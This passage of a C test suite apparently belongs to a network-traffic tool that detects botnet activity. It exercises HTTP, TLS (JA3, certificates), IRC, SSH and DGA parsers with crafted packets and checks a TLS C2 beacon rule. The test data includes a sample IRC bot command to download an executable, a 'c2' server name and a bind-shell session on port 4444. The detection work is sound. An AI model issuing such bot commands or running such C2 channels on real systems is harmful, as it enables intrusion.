	f2 = http_exchange("GET /f/blob.dat HTTP/1.1\r\nHost: a.example\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
			   "Content-Length: 5000\r\n\r\n", blob, sizeof blob);
	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
	/* ... and from a bare IP: a download */
	f2 = http_exchange("GET /f/blob.dat HTTP/1.1\r\nHost: 192.0.2.7\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
			   "Content-Length: 5000\r\n\r\n", blob, sizeof blob);
	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
	/* Flash from a named site under its own type: content, not a download */
	f2 = http_exchange("GET /ad.swf HTTP/1.1\r\nHost: cdn.example\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-shockwave-flash\r\n"
			   "Content-Length: 600\r\n\r\n", swf, sizeof swf);
	CHECK((f2 & RPF2_HTTP_PLUGIN) && !(f2 & RPF2_HTTP_DOWNLOAD));
	/* the same from a bare IP, or disguised as HTML: a download */
	f2 = http_exchange("GET /ad.swf HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-shockwave-flash\r\n"
			   "Content-Length: 600\r\n\r\n", swf, sizeof swf);
	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
	f2 = http_exchange("GET /p HTTP/1.1\r\nHost: cdn.example\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 600\r\n\r\n",
			   swf, sizeof swf);
	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
	/* a PE answered with 404: not a download */
	uint8_t pe[600];
	pe_image(pe, sizeof pe);
	f2 = http_exchange("GET /a.exe HTTP/1.1\r\nHost: a.example\r\n\r\n",
			   "HTTP/1.1 404 Not Found\r\nContent-Length: 600\r\n\r\n", pe, sizeof pe);
	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
}

static void test_http_sniff(void)
{
	TEST("http sniff helpers");
	CHECK(http_host_is_ip((const uint8_t *)"10.0.0.1:8080", 13));
	CHECK(http_host_is_ip((const uint8_t *)"[::1]:80", 8));
	CHECK(!http_host_is_ip((const uint8_t *)"a.example", 9));
	CHECK(!http_host_is_ip((const uint8_t *)"1.2.3", 5));
	char big[100];
	memset(big, 'Q', sizeof big);
	memcpy(big, "sid=", 4);
	CHECK(http_cookie_blob((const uint8_t *)big, sizeof big));
	CHECK(!http_cookie_blob((const uint8_t *)"a=1; b=2", 8));
	uint8_t cls[8] = { 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52 };
	CHECK_EQ_U(http_magic(cls, sizeof cls), HF_CLASS);
	static const uint8_t jar[] = "PK\3\4\24\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x09\0\0\0META-INF/";
	CHECK_EQ_U(http_magic(jar, sizeof jar - 1), HF_JAR);
	CHECK_EQ_U(http_magic((const uint8_t *)"CWS\x0a", 4), HF_SWF);
	CHECK_EQ_U(http_magic((const uint8_t *)"%PDF-1.4", 8), HF_PDF);
	CHECK_EQ_U(http_magic((const uint8_t *)"MZ", 1), HF_NONE);
	char names[64];
	CHECK(http_form_names((const uint8_t *)"email=a&x=1&", 12, names, sizeof names));
	CHECK_STR(names, "email,x");
	CHECK(!http_form_names((const uint8_t *)"q=cats", 6, names, sizeof names));
	const uint8_t *nm;
	static const char cd[] = "attachment; filename=\"a b.exe\"";
	size_t nl = http_disposition_name((const uint8_t *)cd, strlen(cd), &nm);
	CHECK(nl == 7 && !memcmp(nm, "a b.exe", 7));
	/* every prefix of every helper's input: no overread (ASan) */
	for (size_t n = 0; n <= sizeof jar - 1; n++) {
		uint8_t *b = malloc(n ? n : 1);
		memcpy(b, jar, n);
		http_magic(b, n);
		free(b);
	}
}

static size_t tls_hello(uint8_t *b, const char *sni)
{
	size_t nl = strlen(sni), o = 0;
	size_t ext = 9 + nl, hs = 2 + 32 + 1 + 2 + 2 + 1 + 1 + 2 + ext;
	b[o++] = 22, b[o++] = 3, b[o++] = 1, b[o++] = (uint8_t)((hs + 4) >> 8), b[o++] = (uint8_t)(hs + 4);
	b[o++] = 1, b[o++] = 0, b[o++] = (uint8_t)(hs >> 8), b[o++] = (uint8_t)hs;
	b[o++] = 3, b[o++] = 3;
	memset(b + o, 7, 32), o += 32;
	b[o++] = 0;                                  /* session id */
	b[o++] = 0, b[o++] = 2, b[o++] = 0x13, b[o++] = 1;   /* one suite */
	b[o++] = 1, b[o++] = 0;                      /* compression */
	b[o++] = (uint8_t)(ext >> 8), b[o++] = (uint8_t)ext;
	b[o++] = 0, b[o++] = 0, b[o++] = (uint8_t)((nl + 5) >> 8), b[o++] = (uint8_t)(nl + 5);
	b[o++] = (uint8_t)((nl + 3) >> 8), b[o++] = (uint8_t)(nl + 3), b[o++] = 0;
	b[o++] = (uint8_t)(nl >> 8), b[o++] = (uint8_t)nl;
	memcpy(b + o, sni, nl);
	return o + nl;
}

/* Ends flow f for proto_tls: its state goes (the collector's flow_end). */
static void tls_end(struct rp_flow *f)
{
	proto_tls.flow_end(col, f, (uint32_t)((uintptr_t)f >> 4));
}

static void test_tls(void)
{
	TEST("tls");
	uint8_t b[256];
	size_t n = tls_hello(b, "c2.example.org");
	struct rp_flow f = flow(6, 1400, 443);
	CHECK(feed(&proto_tls, &f, b, n, 0));
	CHECK_STR(ev(EV_TLS_SNI), "c2.example.org");
	CHECK(!(f.facts2 & (RPF2_TLS_NOSNI | RPF2_TLS_CLIENT_RESP)));
	CHECK(f.done & 1);   /* the client's side has given all it has */
	tls_end(&f);
	for (size_t k = 0; k < n; k++) {   /* truncated anywhere: never an overread */
		f = flow(6, 1400, 443);
		feed(&proto_tls, &f, b, k, 0);
		tls_end(&f);
	}
	b[1] = 2;   /* not TLS 1.x */
	f = flow(6, 1400, 443);
	CHECK(!feed(&proto_tls, &f, b, n, 0));
	tls_end(&f);
}

/* ---- TLS deep inspection: records, JA3, certificates (OpenSSL) ---- */

struct wb {
	uint8_t b[8192];
	size_t n;
};

static void w8(struct wb *w, unsigned v) { w->b[w->n++] = (uint8_t)v; }
static void w16(struct wb *w, unsigned v) { w8(w, v >> 8); w8(w, v); }
static void w24(struct wb *w, size_t v) { w8(w, (unsigned)(v >> 16)); w16(w, (unsigned)v); }
static void wmem(struct wb *w, const void *p, size_t n) { memcpy(w->b + w->n, p, n); w->n += n; }

/* Appends handshake message (type, body) to w. */
static void w_msg(struct wb *w, unsigned type, const struct wb *body)
{
	w8(w, type);
	w24(w, body->n);
	wmem(w, body->b, body->n);
}

/* Appends a handshake record carrying frag to w. */
static void w_rec(struct wb *w, const struct wb *frag)
{
	w8(w, 22), w16(w, 0x0303), w16(w, (unsigned)frag->n);
	wmem(w, frag->b, frag->n);
}

/* A ClientHello record: version, suites cs[0..ncs), raw extensions. */
static void w_client_hello(struct wb *w, unsigned ver, const uint16_t *cs, size_t ncs, const struct wb *ext)
{
	static struct wb body, msg;
	body.n = msg.n = 0;
	w16(&body, ver);
	memset(body.b + body.n, 9, 32), body.n += 32;
	w8(&body, 0);
	w16(&body, (unsigned)(2 * ncs));
	for (size_t i = 0; i < ncs; i++)
		w16(&body, cs[i]);
	w8(&body, 1), w8(&body, 0);
	w16(&body, (unsigned)ext->n);
	wmem(&body, ext->b, ext->n);
	w_msg(&msg, 1, &body);
	w_rec(w, &msg);
}

/* A ServerHello message (TLS 1.2 ECDHE-RSA-AES128-GCM, renegotiation_info; tls13: supported_versions). */
static void w_server_hello(struct wb *w, bool tls13)
{
	struct wb body = { .n = 0 };
	w16(&body, 0x0303);
	memset(body.b + body.n, 5, 32), body.n += 32;
	w8(&body, 0);
	w16(&body, 0xc02f);
	w8(&body, 0);
	w16(&body, tls13 ? 11 : 5);
	w16(&body, 0xff01), w16(&body, 1), w8(&body, 0);
	if (tls13)
		w16(&body, 43), w16(&body, 2), w16(&body, 0x0304);
	w_msg(w, 2, &body);
}

/* Runs proto_tls on a heap copy of p[0..n) at TCP sequence seq, with the flow fl (for the time). */
static void tls_feed(struct rp_flow *f, const uint8_t *p, size_t n, int dir, uint32_t seq, const struct flow *fl)
{
	uint8_t *b = malloc(n ? n : 1);
	memcpy(b, p, n);
	struct rp_seg s = { .p = b, .n = n, .wire = n, .dir = dir, .idx = (uint32_t)((uintptr_t)f >> 4),
			    .seq = seq, .f = fl };
	if (proto_tls.inspect(col, f, &s) && !f->app)
		f->app = RP_APP_TLS;
	free(b);
}

/* True when (host, cat) has the evidence text s among its first 16. */
static bool ev_has(uint32_t host, unsigned cat, const char *s)
{
	char buf[2048];
	rp_ev_join(col, host, cat, 16, buf, sizeof buf);
	return strstr(buf, s) != NULL;
}

/* A certificate for key, named cn (O=Botlens Test), issued by issuer_cn and signed by signer, valid days [from, to] from now. */
static X509 *mk_cert(EVP_PKEY *key, EVP_PKEY *signer, const char *cn, const char *issuer_cn, long from, long to)
{
	X509 *x = X509_new();
	X509_NAME *sn = X509_NAME_new(), *in = X509_NAME_new();
	X509_NAME_add_entry_by_txt(sn, "CN", MBSTRING_ASC, (const unsigned char *)cn, -1, -1, 0);
	X509_NAME_add_entry_by_txt(sn, "O", MBSTRING_ASC, (const unsigned char *)"Botlens Test", -1, -1, 0);
	X509_NAME_add_entry_by_txt(in, "CN", MBSTRING_ASC, (const unsigned char *)issuer_cn, -1, -1, 0);
	if (!strcmp(cn, issuer_cn))
		X509_NAME_add_entry_by_txt(in, "O", MBSTRING_ASC, (const unsigned char *)"Botlens Test", -1, -1, 0);
	X509_set_version(x, 2);
	ASN1_INTEGER_set(X509_get_serialNumber(x), 7);
	X509_gmtime_adj(X509_getm_notBefore(x), from * 86400);
	X509_gmtime_adj(X509_getm_notAfter(x), to * 86400);
	X509_set_subject_name(x, sn);
	X509_set_issuer_name(x, in);
	X509_set_pubkey(x, key);
	X509_sign(x, signer, EVP_sha256());
	X509_NAME_free(sn);
	X509_NAME_free(in);
	return x;
}

/* The server's flight: ServerHello in one record, Certificate (x) and ServerHelloDone in the next. */
static void w_server_flight(struct wb *w, X509 *x, char sha1[41])
{
	unsigned char *der = NULL;
	int dn = i2d_X509(x, &der);
	struct wb hello = { .n = 0 }, body = { .n = 0 }, msgs = { .n = 0 }, done = { .n = 0 };
	w_server_hello(&hello, false);
	w_rec(w, &hello);
	w24(&body, (size_t)dn + 3);
	w24(&body, (size_t)dn);
	wmem(&body, der, (size_t)dn);
	w_msg(&msgs, 11, &body);
	w_msg(&msgs, 14, &done);
	w_rec(w, &msgs);
	unsigned char md[EVP_MAX_MD_SIZE];
	unsigned ml = 0;
	X509_digest(x, EVP_sha1(), md, &ml);
	for (unsigned i = 0; i < ml; i++)
		snprintf(sha1 + 2 * i, 3, "%02x", md[i]);
	OPENSSL_free(der);
}

static const uint16_t ja3_suites[] = { 0x0a0a, 47, 53, 5, 10, 49161, 49162, 49171, 49172, 50, 56, 19, 4 };

/* Extensions: GREASE, [server_name], supported_groups (GREASE, 23, 24, 25), ec_point_formats (0). */
static void w_exts(struct wb *e, const char *sni)
{
	e->n = 0;
	w16(e, 0x1a1a), w16(e, 0);
	if (sni) {
		size_t nl = strlen(sni);
		w16(e, 0), w16(e, (unsigned)nl + 5), w16(e, (unsigned)nl + 3), w8(e, 0), w16(e, (unsigned)nl);
		wmem(e, sni, nl);
	}
	w16(e, 10), w16(e, 10), w16(e, 8), w16(e, 0x2a2a), w16(e, 23), w16(e, 24), w16(e, 25);
	w16(e, 11), w16(e, 2), w8(e, 1), w8(e, 0);
}

static void test_tls_ja3(void)
{
	TEST("tls ja3");
	char md[33];
	const char *ja3 = "769,47-53-5-10-49161-49162-49171-49172-50-56-19-4,0-10-11,23-24-25,0";
	tls_md5_hex(ja3, strlen(ja3), md);
	CHECK_STR(md, "ada70206e40642a3e4461f35503241d5");   /* the JA3 README's example */
	/* the same hello on the wire, with GREASE values that JA3 leaves out */
	struct wb e, w = { .n = 0 };
	w_exts(&e, "ja3.example");
	w_client_hello(&w, 769, ja3_suites, sizeof ja3_suites / sizeof *ja3_suites, &e);
	struct rp_flow f = flow(6, 1410, 443);
	tls_feed(&f, w.b, w.n, 0, 100, NULL);
	CHECK(f.app == RP_APP_TLS);
	CHECK(ev_has(1, EV_JA3, "ada70206e40642a3e4461f35503241d5"));
	CHECK(ev_has(1, EV_TLS_SNI, "ja3.example"));
	CHECK(!(f.facts2 & RPF2_TLS_NOSNI));
	tls_end(&f);
	/* no server_name: RPF2_TLS_NOSNI; the hello split in two segments */
	w_exts(&e, NULL);
	w.n = 0;
	w_client_hello(&w, 0x0303, ja3_suites, sizeof ja3_suites / sizeof *ja3_suites, &e);
	f = flow(6, 1411, 443);
	tls_feed(&f, w.b, 20, 0, 5000, NULL);
	CHECK(!(f.facts2 & RPF2_TLS_NOSNI) && !(f.done & 1));
	tls_feed(&f, w.b + 20, w.n - 20, 0, 5020, NULL);
	CHECK(f.facts2 & RPF2_TLS_NOSNI);
	CHECK(f.done & 1);
	tls_end(&f);
	/* the server picks TLS 1.3: JA3S recorded, the server's side is done (the rest is encrypted) */
	struct wb sh = { .n = 0 }, rec = { .n = 0 };
	w_server_hello(&sh, true);
	w_rec(&rec, &sh);
	f = flow(6, 1412, 443);
	tls_feed(&f, w.b, w.n, 0, 1, NULL);
	tls_feed(&f, rec.b, rec.n, 1, 1, NULL);
	CHECK(f.facts2 & RPF2_TLS13);
	CHECK_EQ_U(f.done, 3);
	CHECK(rp_state_get(col, (uint32_t)((uintptr_t)&f >> 4)) == NULL);   /* freed: both sides done */
	const char *ja3s = "771,49199,65281-43";
	tls_md5_hex(ja3s, strlen(ja3s), md);
	CHECK(ev_has(2, EV_JA3S, md));
	tls_end(&f);
}

/*
 * A self-signed certificate made here with OpenSSL, in a bind-shell
 * session: the responder (host 2) sends the ClientHello without SNI, the
 * originator (host 1) answers with a flight split in two segments at every
 * possible point.
 */
static void test_tls_cert(void)
{
	TEST("tls certificate");
	EVP_PKEY *key = EVP_PKEY_Q_keygen(NULL, NULL, "EC", "P-256");
	EVP_PKEY *ca = EVP_PKEY_Q_keygen(NULL, NULL, "EC", "P-256");
	CHECK(key && ca);
	X509 *self = mk_cert(key, key, "qxzvhtrl", "qxzvhtrl", -1, 365);
	struct wb e, hello = { .n = 0 }, fl = { .n = 0 };
	char sha1[41];
	w_exts(&e, NULL);
	w_client_hello(&hello, 0x0303, ja3_suites, sizeof ja3_suites / sizeof *ja3_suites, &e);
	w_server_flight(&fl, self, sha1);
	struct flow now = { .last_ns = (int64_t)time(NULL) * 1000000000 };
	bool all = true;
	for (size_t k = 1; k < fl.n; k++) {
		struct rp_flow f = flow(6, 40001, 4444);
		tls_feed(&f, hello.b, hello.n, 1, 77, &now);
		tls_feed(&f, fl.b, k, 0, 1000, &now);
		tls_feed(&f, fl.b + k, fl.n - k, 0, (uint32_t)(1000 + k), &now);
		const uint32_t want = RPF2_TLS_NOSNI | RPF2_TLS_CLIENT_RESP | RPF2_TLS_CERT | RPF2_TLS_SELFSIGNED;
		if ((f.facts2 & want) != want || (f.facts2 & RPF2_TLS_CERT_EXPIRED) || f.done != 3 ||
		    f.app != RP_APP_TLS) {
			all = false;
			fprintf(stderr, "split at %zu: facts2 %#x done %u\n", k, f.facts2, f.done);
		}
		tls_end(&f);
	}
	CHECK(all);
	CHECK(ev_has(1, EV_TLS_SUBJECT, "CN=qxzvhtrl, O=Botlens Test"));   /* under the server, host 1 */
	CHECK(ev_has(1, EV_TLS_ISSUER, "CN=qxzvhtrl, O=Botlens Test"));
	CHECK(ev_has(1, EV_TLS_FP, sha1));
	CHECK_EQ_U(strlen(sha1), 40);

	/* a retransmitted first segment changes nothing; a gap ends the direction without a certificate */
	struct rp_flow f = flow(6, 40002, 4444);
	tls_feed(&f, fl.b, 100, 0, 9000, &now);
	tls_feed(&f, fl.b, 100, 0, 9000, &now);
	tls_feed(&f, fl.b + 100, fl.n - 100, 0, 9100, &now);
	CHECK(f.facts2 & RPF2_TLS_SELFSIGNED);
	tls_end(&f);
	f = flow(6, 40003, 4444);
	tls_feed(&f, fl.b, 100, 0, 9000, &now);
	tls_feed(&f, fl.b + 110, fl.n - 110, 0, 9110, &now);
	CHECK(!(f.facts2 & RPF2_TLS_CERT));
	CHECK(f.done & 1);
	tls_end(&f);

	/* issued by a CA: not self-signed; same names but another key's signature: not self-signed either */
	X509 *leaf = mk_cert(key, ca, "www.botlens.test", "Botlens Test CA", -1, 365);
	X509 *forged = mk_cert(key, ca, "qxzvhtrl", "qxzvhtrl", -1, 365);
	X509 *old = mk_cert(key, key, "oldcert", "oldcert", -400, -30);
	X509 *certs[] = { leaf, forged, old };
	for (size_t i = 0; i < 3; i++) {
		fl.n = 0;
		w_server_flight(&fl, certs[i], sha1);
		f = flow(6, (uint16_t)(40010 + i), 443);
		tls_feed(&f, fl.b, fl.n, 1, 1, &now);
		CHECK(f.facts2 & RPF2_TLS_CERT);
		CHECK(!(f.facts2 & RPF2_TLS_SELFSIGNED) == (i < 2));
		CHECK(!(f.facts2 & RPF2_TLS_CERT_EXPIRED) == (i < 2));
		tls_end(&f);
	}
	CHECK(ev_has(2, EV_TLS_ISSUER, "CN=Botlens Test CA"));
	CHECK(ev_has(2, EV_TLS_SUBJECT, "CN=www.botlens.test, O=Botlens Test"));

	/* a certificate message cut anywhere, and garbage DER: never an overread, never a claim */
	fl.n = 0;
	w_server_flight(&fl, self, sha1);
	for (size_t k = 0; k < fl.n; k++) {
		f = flow(6, 40020, 443);
		tls_feed(&f, fl.b, k, 1, 1, &now);
		tls_end(&f);
	}
	struct tls_cert tc;
	CHECK(!tls_cert_parse(fl.b, fl.n, 0, &tc));
	/* random byte changes in the hello and the flight (a fixed xorshift sequence), each cut in
	 * two at a random point: never an overread, a leak or a crash (ASan, UBSan) */
	static uint8_t mh[sizeof hello.b], mf[sizeof fl.b];
	uint32_t rng = 2463534242u;
	bool freed = true;
#define NEXT() (rng ^= rng << 13, rng ^= rng >> 17, rng ^= rng << 5)
	for (int it = 0; it < 4000; it++) {
		memcpy(mh, hello.b, hello.n);
		memcpy(mf, fl.b, fl.n);
		for (int k = 0; k <= it % 4; k++) {
			NEXT();
			if (it & 1)
				mh[rng % hello.n] = (uint8_t)(rng >> 8);
			else
				mf[rng % fl.n] = (uint8_t)(rng >> 8);
		}
		size_t cut = 1 + NEXT() % (fl.n - 1);
		f = flow(6, 40030, 443);
		tls_feed(&f, mh, hello.n, 0, 1, &now);
		tls_feed(&f, mf, cut, 1, 1, &now);
		tls_feed(&f, mf + cut, fl.n - cut, 1, (uint32_t)(1 + cut), &now);
		tls_end(&f);
		freed &= rp_state_get(col, (uint32_t)((uintptr_t)&f >> 4)) == NULL;
	}
#undef NEXT
	CHECK(freed);
	CHECK(!rp_col_oom(col));
	X509_free(self);
	X509_free(leaf);
	X509_free(forged);
	X509_free(old);
	EVP_PKEY_free(key);
	EVP_PKEY_free(ca);
}

/* The value of key in b's fields, or "". */
static const char *kv(const struct rp_beh *b, const char *key)
{
	for (unsigned i = 0; i < b->nkv; i++)
		if (!strcmp(b->kv[i].key, key))
			return b->kv[i].val;
	return "";
}

extern const struct analysis analysis_tlsc2, analysis_web;

/* The TLS C&C rule (beh_tlsc2.c) and the tls behavior (beh_web.c) on hand-made flow records. */
static void test_tlsc2(void)
{
	TEST("tls c2 rule");
	/* hosts 3 (the host) and 4 (the server): evidence of hosts 1 and 2 is the other tests' */
	struct host hs[2] = { { .family = 4, .addr = { 10, 0, 0, 5 }, .index = 3 },
			      { .family = 4, .addr = { 203, 0, 113, 9 }, .index = 4 } };
	struct host *hp[4] = { &hs[0], &hs[1], &hs[0], &hs[1] };
	const uint32_t c2 = RPF2_TLS_NOSNI | RPF2_TLS_SELFSIGNED | RPF2_TLS_CERT;
	struct rp_flow fl[] = {
		/* bind: host 4 connected to the host's port 4444, the host is the TLS client (ClientHello at 12 s) */
		{ .t0 = 10, .t1 = 23, .h = { 4, 3 }, .sport = 40000, .dport = 4444, .proto = 6, .app = RP_APP_TLS,
		  .facts2 = c2 | RPF2_TLS_CLIENT_RESP, .count2 = 20 },
		/* 443 for 5 s: a TLS port, not long */
		{ .t0 = 30, .t1 = 35, .h = { 3, 4 }, .sport = 50000, .dport = 443, .proto = 6, .app = RP_APP_TLS, .facts2 = c2 },
		/* with SNI on an odd port */
		{ .t0 = 40, .t1 = 41, .h = { 3, 4 }, .sport = 50001, .dport = 8081, .proto = 6, .app = RP_APP_TLS,
		  .facts2 = RPF2_TLS_SELFSIGNED | RPF2_TLS_CERT },
		/* CA-issued, no SNI, odd port */
		{ .t0 = 42, .t1 = 43, .h = { 3, 4 }, .sport = 50002, .dport = 4443, .proto = 6, .app = RP_APP_TLS,
		  .facts2 = RPF2_TLS_NOSNI | RPF2_TLS_CERT },
		/* the host as TLS server of a self-signed session: not its C&C */
		{ .t0 = 44, .t1 = 45, .h = { 4, 3 }, .sport = 50003, .dport = 4445, .proto = 6, .app = RP_APP_TLS, .facts2 = c2 },
		/* 443 for 30 s after the ClientHello: long (an expired certificate) */
		{ .t0 = 50, .t1 = 80, .h = { 3, 4 }, .sport = 50004, .dport = 443, .proto = 6, .app = RP_APP_TLS,
		  .facts2 = c2 | RPF2_TLS_CERT_EXPIRED },
	};
	const size_t n = sizeof fl / sizeof *fl;
	const struct rp_flow *fp[sizeof fl / sizeof *fl];
	for (size_t i = 0; i < n; i++)
		fp[i] = &fl[i];
	const char *subj = "CN=tlsctest";
	rp_ev_add(col, 4, EV_TLS_SUBJECT, (const uint8_t *)subj, strlen(subj));
	struct rp_ctx x = { .col = col, .hosts = hp, .nhosts = 4, .self = 3, .me = &hs[0], .fl = fp, .nfl = 5, .span = 100 };
	struct rp_host *h = calloc(1, sizeof *h);
	analysis_tlsc2.run(&x, h);
	CHECK_EQ_U(h->nbehs, 1);
	const struct rp_beh *b = &h->behs[0];
	CHECK_STR(b->kind, "cnc_beacon");
	CHECK(b->malicious);
	CHECK_STR(kv(b, "server"), "203.0.113.9");
	CHECK_STR(kv(b, "port"), "4444");
	CHECK_STR(kv(b, "subject"), "CN=tlsctest");
	CHECK_STR(kv(b, "duration"), "11");
	CHECK(b->start > 11.9 && b->start < 12.1);
	CHECK(strstr(b->evidence, "self-signed certificate CN=tlsctest (issuer = subject)") != NULL);
	CHECK(strstr(b->evidence, "port 4444 (bind listener, not a TLS port)") != NULL);
	memset(h, 0, sizeof *h);
	x.nfl = n;   /* and the long session on 443 */
	analysis_tlsc2.run(&x, h);
	CHECK_EQ_U(h->nbehs, 2);
	CHECK_STR(kv(&h->behs[1], "port"), "443");
	CHECK(strstr(h->behs[1].evidence, "203.0.113.9:443, self-signed") != NULL);
	CHECK(strstr(h->behs[1].evidence, "(issuer = subject, expired), 30.0 s session") != NULL);

	TEST("tls behavior");
	memset(h, 0, sizeof *h);
	analysis_web.run(&x, h);
	CHECK_EQ_U(h->nbehs, 1);
	b = &h->behs[0];
	CHECK_STR(b->kind, "tls");
	CHECK_EQ_U(b->flows, n);
	CHECK_STR(kv(b, "as_client"), "5");   /* all but the session it served */
	CHECK_STR(kv(b, "no_sni"), "5");
	CHECK_STR(kv(b, "self_signed"), "5");
	CHECK_STR(kv(b, "odd_port"), "4");
	CHECK(strstr(b->evidence, "with a self-signed certificate CN=tlsctest") != NULL);
	free(h);
}

static void test_irc(void)
{
	TEST("irc");
	const char *c = "NICK bot123\r\nUSER bot 0 * :bot\r\nJOIN :#dark\r\n";
	struct rp_flow f = flow(6, 1500, 6667);
	CHECK(feed(&proto_irc, &f, c, strlen(c), 0));
	CHECK((f.facts & (RPF_IRC_REG | RPF_IRC_JOIN)) == (RPF_IRC_REG | RPF_IRC_JOIN));
	CHECK_STR(ev(EV_IRC_NICK), "bot123");
	CHECK_STR(ev(EV_IRC_CHAN), "#dark");
	const char *s = ":boss!x@y PRIVMSG #dark :.download http://x/y.exe\r\n";
	CHECK(feed(&proto_irc, &f, s, strlen(s), 1));
	CHECK(f.facts & RPF_IRC_CMD);
	CHECK_STR(ev(EV_IRC_CMD), ".download http://x/y.exe");
	/* joined before the capture started: the nick comes from the JOIN echo's prefix */
	f = flow(6, 1504, 1106);
	const char *j = ":fhhhs!fhhhs@20.20.20.2 JOIN :#dark-chan\r\n";
	CHECK(feed(&proto_irc, &f, j, strlen(j), 1));
	char nicks[256];
	rp_ev_join(col, 1, EV_IRC_NICK, 4, nicks, sizeof nicks);  /* bot123 from above, then this */
	CHECK(strstr(nicks, "fhhhs") != NULL);
	CHECK(strstr(nicks, "20.20.20.2") == NULL);
	f = flow(6, 1501, 6667);
	CHECK(!feed(&proto_irc, &f, "hello world\r\n", 13, 0));
	f = flow(6, 1502, 6667);
	CHECK(!feed(&proto_irc, &f, ":", 1, 1));
	f = flow(6, 1503, 6667);
	CHECK(!feed(&proto_irc, &f, "USER anonymous\r\n", 16, 0));   /* FTP's, not IRC's */
}

/* An SSH-2 binary packet in clear: message msg, body bytes of 0xAB, 4 + padding to 8 (RFC 4253 6). */
static size_t ssh_pkt(uint8_t *b, uint8_t msg, size_t body)
{
	size_t pad = 4 + (8 - (5 + 1 + body + 4) % 8) % 8, len = 1 + 1 + body + pad;
	b[0] = (uint8_t)(len >> 24), b[1] = (uint8_t)(len >> 16), b[2] = (uint8_t)(len >> 8), b[3] = (uint8_t)len;
	b[4] = (uint8_t)pad;
	b[5] = msg;
	memset(b + 6, 0xAB, body + pad);
	return 4 + len;
}

static void test_ssh(void)
{
	TEST("ssh: identification strings, the key exchange followed to NEWKEYS across segments");
	uint8_t b[2048];
	struct rp_flow f = flow(6, 40000, 2222);
	CHECK(!feed_seq(&proto_ssh, &f, "HTTP/1.1 200 OK\r\n", 17, 1, 500));
	const char *sb = "SSH-2.0-OpenSSH_9.6\r\n", *cb = "SSH-2.0-libssh_0.9.6\r\n";
	CHECK(feed_seq(&proto_ssh, &f, sb, strlen(sb), 1, 500) && f.app == RP_APP_SSH);
	CHECK(feed_seq(&proto_ssh, &f, cb, strlen(cb), 0, 1000));
	CHECK(!strcmp(ev(EV_SSH_CLIENT), "libssh_0.9.6"));
	uint32_t seq = 1000 + (uint32_t)strlen(cb);
	size_t n = ssh_pkt(b, 20, 700);               /* KEXINIT, its header split over two segments */
	CHECK(feed_seq(&proto_ssh, &f, b, 3, 0, seq));
	CHECK(feed_seq(&proto_ssh, &f, b + 3, n - 3, 0, seq + 3));
	CHECK(feed_seq(&proto_ssh, &f, b, n, 0, seq));   /* a retransmission: taken once */
	seq += (uint32_t)n;
	n = ssh_pkt(b, 30, 36);                       /* KEX_ECDH_INIT */
	n += ssh_pkt(b + n, 21, 0);                   /* NEWKEYS */
	size_t clear = (seq - 1000) + n;            /* the banner, KEXINIT, KEX_ECDH_INIT, NEWKEYS */
	memset(b + n, 0x5A, 64);                      /* encrypted from here */
	CHECK(!(f.facts & RPF_SSH_NEWKEYS_C));
	CHECK(feed_seq(&proto_ssh, &f, b, n + 64, 0, seq));
	CHECK((f.facts & RPF_SSH_NEWKEYS_C) && (f.done & 1) && !(f.facts & RPF_SSH_LOST));
	CHECK_EQ_U(f.count, clear);
	CHECK(f.facts & RPF_SSH_IDENT);
	end_flow(&proto_ssh, &f);
	TEST("ssh: a gap, SSH-1 and a header that is no SSH-2 packet's are not followed");
	f = flow(6, 40001, 22);
	CHECK(feed_seq(&proto_ssh, &f, cb, strlen(cb), 0, 1000));
	n = ssh_pkt(b, 20, 100);
	CHECK(feed_seq(&proto_ssh, &f, b, n, 0, 1000 + (uint32_t)strlen(cb) + 10));
	CHECK((f.facts & RPF_SSH_LOST) && (f.done & 1) && !(f.facts & RPF_SSH_NEWKEYS_C));
	end_flow(&proto_ssh, &f);
	f = flow(6, 40002, 22);
	CHECK(feed_seq(&proto_ssh, &f, "SSH-1.5-old\r\n", 13, 1, 1));
	CHECK((f.facts & RPF_SSH_LOST) && (f.done & 2));
	end_flow(&proto_ssh, &f);
	f = flow(6, 40003, 22);
	memcpy(b, cb, strlen(cb));
	memcpy(b + strlen(cb), "\xff\xff\xff\xff\x04\x14", 6);  /* a length past 35000 */
	CHECK(feed_seq(&proto_ssh, &f, b, strlen(cb) + 6, 0, 1));
	CHECK(f.facts & RPF_SSH_LOST);
	end_flow(&proto_ssh, &f);
	TEST("ssh: banners only (a version scan) are followed: no NEWKEYS, not lost");
	f = flow(6, 40004, 22);
	CHECK(feed_seq(&proto_ssh, &f, sb, strlen(sb), 1, 1));
	CHECK(feed_seq(&proto_ssh, &f, cb, strlen(cb), 0, 1));
	end_flow(&proto_ssh, &f);
	CHECK((f.facts & RPF_SSH_IDENT) && !(f.facts & (RPF_SSH_LOST | RPF_SSH_NEWKEYS_C)));
}

static void test_words(void)
{
	TEST("dga words: labels split into common English words, random ones and brands do not");
	CHECK_EQ_U(rp_words_split("heavenseveralmiddle", 19, RP_WORDS_MAX), 3);
	CHECK_EQ_U(rp_words_split("thousandriver", 13, RP_WORDS_MAX), 2);
	CHECK_EQ_U(rp_words_split("thousand", 8, RP_WORDS_MAX), 1);
	CHECK_EQ_U(rp_words_split("wikipedia", 9, RP_WORDS_MAX), 0);
	CHECK_EQ_U(rp_words_split("qxvtrbnmkl", 10, RP_WORDS_MAX), 0);
	CHECK_EQ_U(rp_words_split("river2middle", 12, RP_WORDS_MAX), 0);
	CHECK_EQ_U(rp_words_split("redbedcarboxhot", 15, RP_WORDS_MAX), 0);   /* five words: more than 4 */
	CHECK_EQ_U(rp_words_split("redbedcarboxhot", 15, 5), 5);
	size_t len = 0;
	CHECK_EQ_U(rp_dns_name_words("www.heavenseveralmiddle.net", &len), 3);
	CHECK_EQ_U(len, 19);
